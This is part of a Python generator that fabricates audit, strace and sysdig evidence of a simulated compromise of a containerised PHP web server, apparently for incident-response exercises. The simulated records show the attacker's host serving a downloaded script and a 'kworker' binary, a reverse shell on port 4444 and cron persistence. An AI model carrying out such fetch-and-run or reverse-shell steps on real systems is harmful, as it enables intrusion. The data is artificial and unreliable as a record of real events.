        out = f"ARCH=x86_64 SYSCALL={SYSCALL_NAME[int(kv['syscall'])]} " + " ".join(
            f'{big}="{USERS[int(kv[small])]}"' for small, big in names)
    elif typ == "PATH" and "ouid" in kv:
        out = f'OUID="{USERS[int(kv["ouid"])]}" OGID="{USERS[int(kv["ogid"])]}"'
    elif typ == "SOCKADDR":
        sa = bytes.fromhex(kv["saddr"])
        ip = ".".join(str(b) for b in sa[4:8])
        out = f"SADDR={{ saddr_fam=inet laddr={ip} lport={struct.unpack('!H', sa[2:4])[0]} }}"
    elif typ in ("USER_ACCT", "SERVICE_START", "SERVICE_STOP", "USER_CMD"):
        out = f'UID="{USERS[int(kv["uid"])]}" AUID="{USERS[int(kv["auid"])]}"'
    elif typ == "LOGIN":
        out = f'UID="{USERS[int(kv["uid"])]}" OLD-AUID="unset" AUID="{USERS[int(kv["auid"])]}"'
    else:
        return ""
    return "\x1d" + out


class Audit:
    def __init__(self):
        self.lines = []
        self.serial = 31207

    def event(self, t, records):
        self.serial += 1
        self.lines.append((t, self.serial, records))

    def text(self):
        """The log in time order, serial numbers rising with it as the kernel assigns them."""
        out = []
        for n, (t, _, records) in enumerate(sorted(self.lines, key=lambda x: (x[0], x[1]))):
            s, rem = divmod(t, 1_000_000_000)
            stamp = f"audit({s}.{rem // 1_000_000:03d}:{31208 + n})"
            out += [f"type={typ} msg={stamp}: {body}{enrich(typ, body)}\n" for typ, body in records]
        return "".join(out)

    def ids(self, pid, ppid, uid, comm, exe, auid=4294967295, ses=4294967295, tty="(none)"):
        g = uid if uid != 1001 else 1001
        return (f"ppid={ppid} pid={pid} auid={auid} uid={uid} gid={g} euid={uid} suid={uid} fsuid={uid} egid={g} sgid={g} "
                f"fsgid={g} tty={tty} ses={ses} comm={audit_str(comm[:15])} exe={audit_str(exe)}")

    def subj(self, pid):
        return "subj=system_u:system_r:container_t:s0:c512,c913" if pid in IN_CONTAINER or pid >= 4242 else \
            "subj=system_u:system_r:unconfined_service_t:s0"

    def execve(self, t, pid, ppid, uid, exe, argv, cwd, comm=None, auid=4294967295, ses=4294967295, tty="(none)",
               key="exec", path=None):
        a = [rng.getrandbits(44) | 0x550000000000 for _ in range(3)]
        args = " ".join(f"a{i}={audit_str(x)}" for i, x in enumerate(argv))
        self.event(t, [
            ("SYSCALL", f"arch=c000003e syscall=59 success=yes exit=0 a0={a[0]:x} a1={a[1]:x} a2={a[2]:x} "
                        f"a3=7ffd{rng.getrandbits(32):08x} items=2 " + self.ids(pid, ppid, uid, comm or os.path.basename(exe), exe, auid, ses, tty) +
                        f" {self.subj(pid)} key=\"{key}\""),
            ("EXECVE", f"argc={len(argv)} {args}"),
            ("CWD", f"cwd={audit_str(cwd)}"),
            ("PATH", f"item=0 name={audit_str(path or exe)} "
                     f"inode={rng.randrange(100000, 9000000)} dev=00:{rng.choice(['2f', '31'])} mode=0100755 ouid=0 ogid=0 "
                     "rdev=00:00 obj=system_u:object_r:container_file_t:s0 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"),
            ("PATH", f"item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode={rng.randrange(100000, 9000000)} dev=00:2f "
                     "mode=0100755 ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:container_file_t:s0 nametype=NORMAL "
                     "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"),
            ("PROCTITLE", "proctitle=" + audit_str("\0".join(argv)) if len(argv) > 1 else "proctitle=" + audit_str(argv[0])),
        ])

    def connect(self, t, pid, ppid, uid, comm, exe, fd, raddr, proctitle, key="net"):
        ip, port = raddr
        sa = struct.pack("<H", 2) + struct.pack("!H", port) + ip4(ip) + b"\0" * 8
        self.event(t, [
            ("SYSCALL", f"arch=c000003e syscall=42 success=yes exit=0 a0={fd:x} a1=7ffc{rng.getrandbits(32):08x} a2=10 a3=0 "
                        "items=0 " + self.ids(pid, ppid, uid, comm, exe) + f" {self.subj(pid)} key=\"{key}\""),
            ("SOCKADDR", f"saddr={sa.hex().upper()}"),
            ("PROCTITLE", "proctitle=" + audit_str(proctitle)),
        ])

    def file_op(self, t, pid, ppid, uid, comm, exe, nr, a0, a2, exit_, cwd, paths, proctitle, key):
        recs = [("SYSCALL", f"arch=c000003e syscall={nr} success=yes exit={exit_} a0={a0} a1=55{rng.getrandbits(40):010x} "
                            f"a2={a2} a3=0 items={len(paths)} " + self.ids(pid, ppid, uid, comm, exe) + f" {self.subj(pid)} key=\"{key}\""),
                ("CWD", f"cwd={audit_str(cwd)}")]
        for i, (name, nametype, mode) in enumerate(paths):
            inode = rng.randrange(100000, 9000000)
            if nametype == "CREATE" and mode is None:
                recs.append(("PATH", f"item={i} name={audit_str(name)} nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"))
            else:
                recs.append(("PATH", f"item={i} name={audit_str(name)} inode={inode} dev=00:2f mode={mode} ouid=33 ogid=33 "
                                     f"rdev=00:00 obj=system_u:object_r:container_file_t:s0 nametype={nametype} cap_fp=0 cap_fi=0 "
                                     "cap_fe=0 cap_fver=0 cap_frootid=0"))
        recs.append(("PROCTITLE", "proctitle=" + audit_str(proctitle)))
        self.event(t, recs)

    def simple(self, t, typ, body):
        self.event(t, [(typ, body)])


def proc_at(pid, t):
    """(ppid, uid, comm, exe, argv, cwd) of pid at time t: the last execve before t, else PROCS."""
    cur = PROCS.get(pid)
    for s in ATTACK:
        if s["kind"] == "execve" and s["pid"] == pid and s["t"] <= t:
            cur = (s["ppid"], s["uid"], s["comm"], s["exe"], s["argv"], s["cwd"])
    if cur is None and pid == 4243:
        cur = (4242, 33, "sh", "/usr/bin/dash", ["sh", "-c", INJECTED], "/var/www/html")
    return cur


def build_audit():
    a = Audit()
    # the service audit lines of the hour: the ECS container health check (docker exec every 30 s)
    hc_pid = 30110
    for i in range(120):
        t = ts(i * 30 + 12, rng.randrange(1_000_000))
        hc_pid += rng.randrange(3, 9)
        a.execve(t, hc_pid, 2771, 0, "/usr/sbin/runc",
                 ["runc", "--root", "/var/run/docker/runtime-runc/moby", "exec", "--process", f"/tmp/runc-process{rng.getrandbits(32)}",
                  "--detach", "--pid-file", "/run/containerd/io.containerd.runtime.v2.task/moby/" + CONTAINER_ID + "/exec.pid", CONTAINER_ID],
                 "/run/containerd/io.containerd.runtime.v2.task/moby/" + CONTAINER_ID, comm="runc")
        IN_CONTAINER.add(hc_pid + 1)
        IN_CONTAINER.add(hc_pid + 2)
        a.execve(t + 9_100_000, hc_pid + 1, hc_pid, 0, "/usr/bin/dash",
                 ["/bin/sh", "-c", "curl -fs http://localhost/healthz || exit 1"], "/var/www/html", comm="sh")
        a.execve(t + 10_300_000, hc_pid + 2, hc_pid + 1, 0, "/usr/bin/curl", ["curl", "-fs", "http://localhost/healthz"],
                 "/var/www/html")
        a.connect(t + 11_000_000, hc_pid + 2, hc_pid + 1, 0, "curl", "/usr/bin/curl", 5, ("127.0.0.1", 80),
                  "curl\0-fs\0http://localhost/healthz")
        hc_pid += 3
    # sysstat every ten minutes from cron, with the PAM records crond writes
    for i in range(6):
        t = ts(i * 600 + 1, 4000)
        pid = 29000 + i * 211
        msg = "op=PAM:accounting grantors=pam_access,pam_unix,pam_localuser acct=\"root\" exe=\"/usr/sbin/crond\" hostname=? addr=? terminal=cron res=success"
        a.simple(t, "USER_ACCT", f"pid={pid} uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:crond_t:s0-s0:c0.c1023 msg='{msg}'")
        a.simple(t + 1_000_000, "LOGIN", f"pid={pid} uid=0 subj=system_u:system_r:crond_t:s0-s0:c0.c1023 old-auid=4294967295 auid=0 tty=(none) old-ses=4294967295 ses={700 + i} res=1")
        a.execve(t + 4_000_000, pid + 1, pid, 0, "/usr/lib64/sa/sa1", ["/bin/bash", "/usr/lib64/sa/sa1", "1", "1"], "/root",
                 comm="sa1", auid=0, ses=700 + i, key="exec")
        a.execve(t + 9_000_000, pid + 2, pid + 1, 0, "/usr/lib64/sa/sadc", ["/usr/lib64/sa/sadc", "-F", "-L", "-S", "DISK", "1", "1", "-"],
                 "/root", comm="sadc", auid=0, ses=700 + i)
    # the dnf-makecache timer: package metadata refreshed from the Amazon Linux repositories
    t = ts(1850, 300100)
    a.simple(t, "SERVICE_START", "pid=1 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:init_t:s0 msg='unit=dnf-makecache comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")
    a.execve(t + 20_000_000, 31877, 1, 0, "/usr/bin/python3.9", ["/usr/bin/python3", "/usr/bin/dnf", "makecache", "--timer"], "/", comm="dnf")
    a.connect(t + 410_000_000, 31877, 1, 0, "dnf", "/usr/bin/python3.9", 7, (VPC_DNS, 53), "/usr/bin/python3\0/usr/bin/dnf\0makecache\0--timer")
    a.connect(t + 433_000_000, 31877, 1, 0, "dnf", "/usr/bin/python3.9", 8, ("52.218.48.201", 443), "/usr/bin/python3\0/usr/bin/dnf\0makecache\0--timer")
    a.simple(t + 6_800_000_000, "SERVICE_STOP", "pid=1 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:init_t:s0 msg='unit=dnf-makecache comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")
    # the engineers on the instance (SSM sessions as ssm-user): strace of the slow worker, then sysdig
    for t, argv in ((ts(871, 390002), ["sudo", "strace", "-f", "-tt", "-yy", "-s", "256", "-p", "2817", "-o", "/tmp/apache-2817.trace"]),
                    (ts(1319, 880555), ["sudo", "sysdig", "-w", "/var/tmp/ir-20261123-0222.scap"])):
        pid = 5000 + (t // 10**9) % 1000
        a.execve(t - 90_000_000, pid, 4990, 1001, "/usr/bin/sudo", argv, "/home/ssm-user", comm="sudo", auid=1001, ses=812, tty="pts0")
        a.simple(t - 40_000_000, "USER_CMD", f"pid={pid} uid=1001 auid=1001 ses=812 subj=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023 "
                 f"msg='cwd=\"/home/ssm-user\" cmd={' '.join(argv[1:]).encode().hex().upper()} exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'")
        a.execve(t, pid + 1, pid, 0, "/usr/bin/" + argv[1], argv[1:], "/home/ssm-user", auid=1001, ses=812, tty="pts0")
    # the attack, as the instance's audit rules saw it
    for s in ATTACK:
        p = proc_at(s["pid"], s["t"])
        if s["kind"] == "execve":
            path = "/bin/sh" if s["exe"] == "/usr/bin/dash" else ("./kworker" if s["argv"][0] == "./kworker" else s["exe"])
            a.execve(s["t"], s["pid"], s["ppid"], s["uid"], s["exe"], s["argv"], s["cwd"], comm=s["comm"], path=path)
        elif s["kind"] == "connect":
            a.connect(s["t"], s["pid"], p[0], p[1], p[2], p[3], s["fd"], s["raddr"], "\0".join(p[4]))
        elif s["kind"] == "open_write":
            if not s["path"].startswith(("/var/www/", "/var/spool/cron/")):
                continue
            fl = {"O_WRONLY|O_CREAT|O_APPEND": "441", "O_WRONLY|O_CREAT|O_EXCL": "c1", "O_WRONLY|O_CREAT|O_TRUNC": "241"}[s["flags"]]
            d = os.path.dirname(s["path"]) + "/"
            a.file_op(s["t"], s["pid"], p[0], p[1], p[2], p[3], 257, "ffffff9c", fl, s["fd"], s["cwd"],
                      [(d, "PARENT", "040700"), (s["path"], "CREATE", None)], "\0".join(p[4]),
                      "cron" if "cron" in s["path"] else "webroot")
        elif s["kind"] == "unlink":
            a.file_op(s["t"], s["pid"], p[0], p[1], p[2], p[3], 263, "ffffff9c", "0", 0, s["cwd"],
                      [(os.path.dirname(s["path"]) + "/", "PARENT", "040755"), (s["path"], "DELETE", "0100600")],
                      "\0".join(p[4]), "webroot")
        elif s["kind"] == "rename":
            a.file_op(s["t"], s["pid"], p[0], p[1], p[2], p[3], 264, "ffffff9c", "ffffff9c", 0, s["cwd"],
                      [("/var/spool/cron/crontabs/", "PARENT", "041730"), ("/var/spool/cron/crontabs/", "PARENT", "041730"),
                       (s["old"], "DELETE", "0100600"), (s["new"], "CREATE", "0100600")], "\0".join(p[4]), "cron")
    return a.text()


# ---------------------------------------------------------------------------------------------
# strace -f -tt -yy -s 256 -p 2817 -o /tmp/apache-2817.trace


def c_str(s, limit=256):
    b = s.encode() if isinstance(s, str) else s
    out = []
    for c in b[:limit]:
        ch = chr(c)
        if ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif ch == "\n":
            out.append("\\n")
        elif ch == "\r":
            out.append("\\r")
        elif ch == "\t":
            out.append("\\t")
        elif 0x20 <= c < 0x7F:
            out.append(ch)
        else:
            out.append("\\%o" % c)
    return '"' + "".join(out) + '"' + ("..." if len(b) > limit else "")


def hms(t):
    s, rem = divmod(t, 1_000_000_000)
    s %= 86400
    return f"{s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d}.{rem // 1000:06d}"


def build_strace():
    L = []

    def line(t, pid, text):
        L.append((t, pid, f"{pid:<5} {hms(t)} {text}"))

    lsock = "4<TCP:[0.0.0.0:80]>"
    # health checks and shoppers served by worker 2817 while the trace ran
    t = STRACE_WINDOW[0] + 12_000_000
    reqs = [(ALBS[0], 41822, "GET /healthz"), (ALBS[1], 42016, "GET /healthz"), (ALBS[0], 41840, "GET /products/42")]
    for ip, port, what in reqs:
        conn = f"9<TCP:[{TASK_IP}:80->{ip}:{port}]>"
        line(t, 2817, f"accept4({lsock}, {{sa_family=AF_INET, sin_port=htons({port}), sin_addr=inet_addr(\"{ip}\")}}, [128 => 16], SOCK_CLOEXEC) = {conn}")
        req = f"{what} HTTP/1.1\r\nHost: {TASK_IP}\r\nConnection: close\r\nUser-Agent: ELB-HealthChecker/2.0\r\n\r\n"
        line(t + 61_000, 2817, f"read({conn}, {c_str(req, 256)}, 8000) = {len(req)}")
        page = "/var/www/html/healthz.php" if "healthz" in what else "/var/www/html/index.php"
        line(t + 240_000, 2817, f"openat(AT_FDCWD</var/www/html>, \"{page}\", O_RDONLY|O_CLOEXEC) = 10<{page}>")
        line(t + 260_000, 2817, f"read(10<{page}>, \"<?php\\n\", 8192) = 6")
        line(t + 290_000, 2817, f"close(10<{page}>) = 0")
        resp = "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Type: text/plain\r\n\r\nok\n"
        line(t + 1900_000, 2817, f"writev({conn}, [{{iov_base={c_str(resp, 256)}, iov_len={len(resp)}}}], 1) = {len(resp)}")
        line(t + 2010_000, 2817, f"shutdown({conn}, SHUT_WR) = 0")
        line(t + 2200_000, 2817, f"close({conn}) = 0")
        t += rng.randrange(7, 9) * 1_000_000_000
    # the exploit request
    t = ts(898, 985102)
    conn = f"9<TCP:[{TASK_IP}:80->{ATTACKER}:51514]>"
    line(t, 2817, f"accept4({lsock}, {{sa_family=AF_INET, sin_port=htons(51514), sin_addr=inet_addr(\"{ATTACKER}\")}}, [128 => 16], SOCK_CLOEXEC) = {conn}")
    line(t + 210_000, 2817, f"read({conn}, \"POST /upload.php HTTP/1.1\\r\\nHost: {TASK_IP}\\r\\nUser-Agent: python-requests/2.31.0\\r\\n\"..., 8000) = 498")
    tmp = "/tmp/phpk3Jd9A"
    line(t + 900_000, 2817, f"openat(AT_FDCWD</var/www/html>, \"{tmp}\", O_RDWR|O_CREAT|O_EXCL, 0600) = 10<{tmp}>")
    line(t + 950_000, 2817, f"write(10<{tmp}>, \"\\377\\330\\377\\340\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\"..., 64) = 64")
    line(t + 990_000, 2817, f"close(10<{tmp}>) = 0")
    line(t + 1400_000, 2817, f"rename(\"{tmp}\", \"/var/www/html/uploads/a.jpg\") = 0")
    # mod_php's shell_exec: fork, exec /bin/sh -c
    line(ts(900, 211002), 2817, "pipe2([10<pipe:[4391187]>, 11<pipe:[4391187]>], O_CLOEXEC) = 0")
    line(ts(900, 211590), 2817, "clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f1c9a3bfa10) = 4242")
    line(ts(900, 212402), 4242, "dup2(11<pipe:[4391187]>, 1) = 1<pipe:[4391187]>")
    procs_seen = {4242}
    sh_env = "0x7ffd4c1e9b80 /* 11 vars */"
    for s in ATTACK:
        if not (STRACE_WINDOW[0] <= s["t"] <= STRACE_WINDOW[1]):
            continue
        pid = s["pid"]
        if s["kind"] == "execve":
            if pid not in procs_seen:
                parent = s["ppid"]
                if parent == 4243 and 4243 not in procs_seen:
                    line(s["t"] - 2900_000, 4242, "clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f3b1f4e9a10) = 4243")
                    line(s["t"] - 2400_000, 4243, "pipe([3<pipe:[4391190]>, 4<pipe:[4391190]>]) = 0")
                    procs_seen.add(4243)
                line(s["t"] - 1100_000, parent, f"clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f3b1f4e9a10) = {pid}")
                procs_seen.add(pid)
            path = "/bin/sh" if s["exe"] == "/usr/bin/dash" else ("./kworker" if s["argv"][0] == "./kworker" else s["exe"])
            argv = "[" + ", ".join(c_str(x) for x in s["argv"]) + "]"
            line(s["t"], pid, f"execve({c_str(path)}, {argv}, {sh_env}) = 0")
        elif s["kind"] == "connect":
            ino = 4391200 + pid % 100
            (lip, lport), (rip, rport) = s["laddr"], s["raddr"]
            line(s["t"] - 80_000, pid, f"socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = {s['fd']}<TCP:[{ino}]>")
            line(s["t"], pid, f"connect({s['fd']}<TCP:[{ino}]>, {{sa_family=AF_INET, sin_port=htons({rport}), sin_addr=inet_addr(\"{rip}\")}}, 16) = 0")
            if pid != 4249:
                req = f"GET /{'x.sh' if pid == 4244 else 'kworker'} HTTP/1.1\r\nHost: {ATTACKER}\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n"
                sock = f"{s['fd']}<TCP:[{lip}:{lport}->{rip}:{rport}]>"
                line(s["t"] + 150_000, pid, f"sendto({sock}, {c_str(req)}, {len(req)}, MSG_NOSIGNAL, NULL, 0) = {len(req)}")
                body = SCRIPT if pid == 4244 else b"\x7fELF\x02\x01\x01\0"
                line(s["t"] + 49_000_000, pid, f"recvfrom({sock}, {c_str(b'HTTP/1.1 200 OK' + chr(13).encode() + chr(10).encode(), 256)}..., 102400, 0, NULL, NULL) = {len(body) + 90}")
                if pid == 4244:
                    line(s["t"] + 49_300_000, pid, f"write(1<pipe:[4391190]>, {c_str(SCRIPT)}, {len(SCRIPT)}) = {len(SCRIPT)}")
                line(s["t"] + 49_800_000, pid, f"close({sock}) = 0")
        elif s["kind"] == "open_write":
            line(s["t"], pid, f"openat(AT_FDCWD<{s['cwd']}>, {c_str(s['rel'])}, {s['flags']}, 0666) = {s['fd']}<{s['path']}>")
            line(s["t"] + 300_000, pid, f"write({s['fd']}<{s['path']}>, \"\\177ELF\\2\\1\\1\\0\\0\\0\\0\\0\\0\\0\\0\\0\\2\\0>\\0\\1\\0\\0\\0\"..., 14336) = 14336")
            line(s["t"] + 700_000, pid, f"close({s['fd']}<{s['path']}>) = 0")
        elif s["kind"] == "dup2":
            sock = f"3<TCP:[{TASK_IP}:46122->{ATTACKER}:4444]>"
            line(s["t"], pid, f"dup2({sock}, {s['newfd']}) = {s['newfd']}<TCP:[{TASK_IP}:46122->{ATTACKER}:4444]>")
    # the script's `cd /tmp/.x`, once mkdir has returned
    line(ts(900, 405220), 4245, 'chdir("/tmp/.x") = 0')
    # exits of the short-lived children, in order
    for pid, at in ((4246, ts(900, 404001)), (4244, ts(900, 290002)), (4247, ts(900, 531200)), (4248, ts(901, 5007)), (4245, ts(901, 20113)),
                    (4243, ts(901, 22001)), (4250, ts(901, 290771)), (4242, ts(901, 291604))):
        L.append((at, pid, f"{pid:<5} {hms(at)} exit_group(0) = ?"))
        L.append((at + 90_000, pid, f"{pid:<5} {hms(at + 90_000)} +++ exited with 0 +++"))
        if pid in (4244, 4245, 4246, 4247, 4248):
            parent = 4243 if pid in (4244, 4245) else 4245
            L.append((at + 150_000, parent, f"{parent:<5} {hms(at + 150_000)} --- SIGCHLD {{si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid={pid}, si_uid=33, si_status=0, si_utime=0, si_stime=0}} ---"))
    # php reads the (empty) output, answers, and goes back to accept
    t = ts(901, 300010)
    line(t, 2817, "read(10<pipe:[4391187]>, \"\", 8192) = 0")
    line(t + 80_000, 2817, "wait4(4242, [{WIFEXITED(s) && WEXITSTATUS(s) == 0}], 0, NULL) = 4242")
    resp = "HTTP/1.1 200 OK\r\nContent-Length: 25\r\nContent-Type: text/html\r\n\r\n<p>thumbnail created</p>\n"
    line(t + 400_000, 2817, f"writev({conn}, [{{iov_base={c_str(resp)}, iov_len={len(resp)}}}], 1) = {len(resp)}")
    line(t + 700_000, 2817, f"close({conn}) = 0")
    t = ts(920, 11880)
    for ip, port in ((ALBS[1], 42104), (ALBS[0], 41902)):
        conn = f"9<TCP:[{TASK_IP}:80->{ip}:{port}]>"
        line(t, 2817, f"accept4({lsock}, {{sa_family=AF_INET, sin_port=htons({port}), sin_addr=inet_addr(\"{ip}\")}}, [128 => 16], SOCK_CLOEXEC) = {conn}")
        req = f"GET /healthz HTTP/1.1\r\nHost: {TASK_IP}\r\nConnection: close\r\nUser-Agent: ELB-HealthChecker/2.0\r\n\r\n"
        line(t + 61_000, 2817, f"read({conn}, {c_str(req)}, 8000) = {len(req)}")
        resp = "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Type: text/plain\r\n\r\nok\n"
        line(t + 1900_000, 2817, f"writev({conn}, [{{iov_base={c_str(resp)}, iov_len={len(resp)}}}], 1) = {len(resp)}")
        line(t + 2200_000, 2817, f"close({conn}) = 0")
        t += 29_800_000_000
    # the reverse shell waits on its terminal: still blocked when strace detaches
    line(ts(901, 16800), 4249, "read(0<TCP:[10.0.1.87:46122->198.51.100.7:4444]>,  <unfinished ...>")
    line(STRACE_WINDOW[1] - 100_000, 2817, f"accept4({lsock},  <unfinished ...>")
    L.sort(key=lambda x: (x[0], x[1]))
    return "".join(text + "\n" for _, _, text in L)


# ---------------------------------------------------------------------------------------------
# .scap (sysdig 0.29 savefile, format 1.2): sudo sysdig -w /var/tmp/ir-20261123-0222.scap

EV = {  # name: (enter code, exit code, exit param types)
    "execve": (292, 293), "clone": (222, 223), "openat": (306, 307), "connect": (22, 23), "unlinkat": (302, 303),
    "renameat": (176, 177), "close": (4, 5), "procexit": (186, None), "socket": (18, 19),
}


def sc_block(btype, body):
    body += b"\0" * (-len(body) % 4)
    n = len(body) + 12
    return struct.pack("<II", btype, n) + body + struct.pack("<I", n)


def s16(s):
    b = s.encode() if isinstance(s, str) else s
    return struct.pack("<H", len(b)) + b


def sc_event(t, tid, code, params):
    """An EV_V2 block: u16 cpu, then the event header, the u16 lengths, the values."""
    lens = b"".join(struct.pack("<H", len(p)) for p in params)
    body = b"".join(params)
    n = 26 + len(lens) + len(body)
    ev = struct.pack("<QQIHI", t, tid, n, code, len(params)) + lens + body
    return sc_block(0x216, struct.pack("<H", rng.randrange(2)) + ev)


def p64(v):
    return struct.pack("<q", v)


def u64(v):
    return struct.pack("<Q", v)


def u32(v):
    return struct.pack("<I", v)


def cz(s):
    return (s.encode() if isinstance(s, str) else s) + b"\0"


def argsbuf(argv):
    return b"".join(a.encode() + b"\0" for a in argv[1:])


def sockaddr(ip, port):
    return b"\x02" + ip4(ip) + struct.pack("<H", port)


def socktuple(l, r):
    return b"\x02" + ip4(l[0]) + struct.pack("<H", l[1]) + ip4(r[0]) + struct.pack("<H", r[1])


def cgroups_of(pid):
    if pid in IN_CONTAINER or pid >= 4242:
        base = f"/ecs/{TASK}/{CONTAINER_ID}"
    else:
        base = "/system.slice/" + ("docker.service" if pid == 1022 else "ecs.service" if pid == 1894 else "")
    return b"".join(f"{c}={base}".encode() + b"\0" for c in ("cpuset", "cpu", "memory", "pids"))


def build_scap():
    out = io.BytesIO()
    out.write(sc_block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 2, -1)))
    mi = struct.pack("<IQQ", 2, 8 * 1024 ** 3, 4194304) + HOST.encode().ljust(128, b"\0") + struct.pack("<QQQQ", ts(-86400 * 3), 0, 0, 0)
    out.write(sc_block(0x201, mi))
    # users
    ul = b""
    for uid, gid, name, home, shell in ((0, 0, "root", "/root", "/bin/bash"), (33, 33, "www-data", "/var/www", "/usr/sbin/nologin"),
                                        (1001, 1001, "ssm-user", "/home/ssm-user", "/bin/bash")):
        e = b"\x00" + u32(uid) + u32(gid) + s16(name) + s16(home) + s16(shell)
        ul += u32(len(e) + 4) + e
    out.write(sc_block(0x220, ul))
    # the processes alive at 02:22 (PL_V9)
    alive = dict(PROCS)
    alive[4249] = (4245, 33, "sh", "/usr/bin/dash", ["sh", "-i"], "/tmp/.x")
    alive[6319] = (6318, 0, "sysdig", "/usr/bin/sysdig", ["sysdig", "-w", "/var/tmp/ir-20261123-0222.scap"], "/home/ssm-user")
    alive[6318] = (4990, 0, "sudo", "/usr/bin/sudo", ["sudo", "sysdig", "-w", "/var/tmp/ir-20261123-0222.scap"], "/home/ssm-user")
    alive[4990] = (905, 1001, "sh", "/usr/bin/bash", ["sh"], "/home/ssm-user")
    pl = b""
    for pid in sorted(alive):
        ppid, uid, comm, exe, argv, cwd = alive[pid]
        env = b"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/sbin:/usr/bin:/sbin:/bin\0"
        e = (u64(pid) + u64(pid) + u64(ppid) + u64(pid if pid in (1, 2790) else 1) + u64(pid) + s16(comm) + s16(argv[0]) + s16(exe) +
             s16(argsbuf(argv)) + s16(cwd) + u64(1048576) + u32(0) + u32(uid) + u32(uid) + u32(rng.randrange(10000, 900000)) +
             u32(rng.randrange(1000, 90000)) + u32(0) + u64(rng.randrange(100)) + u64(rng.randrange(10000, 900000)) + s16(env) +
             u64(CONTAINER_NSPID.get(pid, pid)) + u64(CONTAINER_NSPID.get(pid, pid)) + s16(cgroups_of(pid)) + s16("/") +
             u64(0) + u32(0) + u32(1001 if pid in (4990, 6318, 6319) else 4294967295))
        pl += u32(len(e) + 4) + e
    out.write(sc_block(0x215, pl))
    # fd tables: the reverse shell's socket on 0/1/2, apache's listening socket
    for pid, fds in ((4249, [(fd, 3, (TASK_IP, 46122), (ATTACKER, 4444)) for fd in (0, 1, 2)] + [(10, 1, "/tmp/.x", None)]),
                     (2790, [(4, 5, ("0.0.0.0", 80), None)]), (2817, [(4, 5, ("0.0.0.0", 80), None)])):
        fl = u64(pid)
        for fd, typ, a, b in fds:
            ino = 4391200 + fd
            if typ == 3:
                e = u64(fd) + u64(ino) + bytes([3]) + ip4(a[0]) + ip4(b[0]) + struct.pack("<HH", a[1], b[1]) + b"\x02"
            elif typ == 5:
                e = u64(fd) + u64(ino) + bytes([5]) + ip4(a[0]) + struct.pack("<H", a[1]) + b"\x02"
            else:
                e = u64(fd) + u64(ino) + bytes([2]) + s16(a)
            fl += u32(len(e) + 4) + e
        out.write(sc_block(0x218, fl))

    evs = []

    def ev(t, tid, code, params):
        evs.append((t, tid, code, params))

    def execve_exit(t, pid, ppid, uid, exe, argv, cwd, comm):
        params = [p64(0), cz(argv[0]), argsbuf(argv), p64(pid), p64(pid), p64(ppid), cz(cwd), u64(1048576), u64(0),
                  u64(rng.randrange(100, 400)), u32(rng.randrange(2000, 9000)), u32(rng.randrange(500, 3000)), u32(0),
                  cz(comm), cgroups_of(pid), b"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\0HOME=/var/www\0",
                  u32(0), p64(pid), u32(4294967295), u32(0), u64(0), u64(0), u64(0), u64(rng.randrange(100000, 9000000)),
                  u64(ts(-86400)), u64(ts(-86400)), u32(uid)]
        ev(t - 40_000, pid, 292, [cz(exe)])
        ev(t, pid, 293, params)

    def clone(t, parent, child, uid, proc):
        ppid, _, comm, exe, argv, cwd = proc
        common = [cz(argv[0]), argsbuf(argv), None, None, None, cz(cwd), p64(1048576), u64(0), u64(0), u32(0), u32(0), u32(0),
                  cz(comm), cgroups_of(child), u32(0), u32(uid), u32(uid), None, None]
        ptid = alive.get(parent, (ppid,))[0]
        p_parent = [p64(child)] + common
        p_parent[3], p_parent[4], p_parent[5] = p64(parent), p64(parent), p64(ptid)
        p_parent[18], p_parent[19] = p64(CONTAINER_NSPID.get(parent, parent)), p64(CONTAINER_NSPID.get(parent, parent))
        p_child = [p64(0)] + common
        p_child[3], p_child[4], p_child[5] = p64(child), p64(child), p64(parent)
        p_child[18], p_child[19] = p64(child), p64(child)
        ev(t - 30_000, parent, 222, [])
        ev(t, parent, 223, p_parent)
        ev(t + 60_000, child, 223, p_child)

    # benign: health checks through runc exec, apache workers serving, the ECS agent
    hc_pid = 31000
    for i in range(46):
        t = ts(1320 + i * 30 + 12, rng.randrange(1_000_000))
        hc = hc_pid + i * 9
        proc = (2771, 0, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", ["/usr/bin/containerd-shim-runc-v2"], "/")
        clone(t, 2771, hc, 0, proc)
        execve_exit(t + 3_000_000, hc, 2771, 0, "/usr/bin/dash", ["/bin/sh", "-c", "curl -fs http://localhost/healthz || exit 1"],
                    "/var/www/html", "sh")
        IN_CONTAINER.add(hc)
        IN_CONTAINER.add(hc + 1)
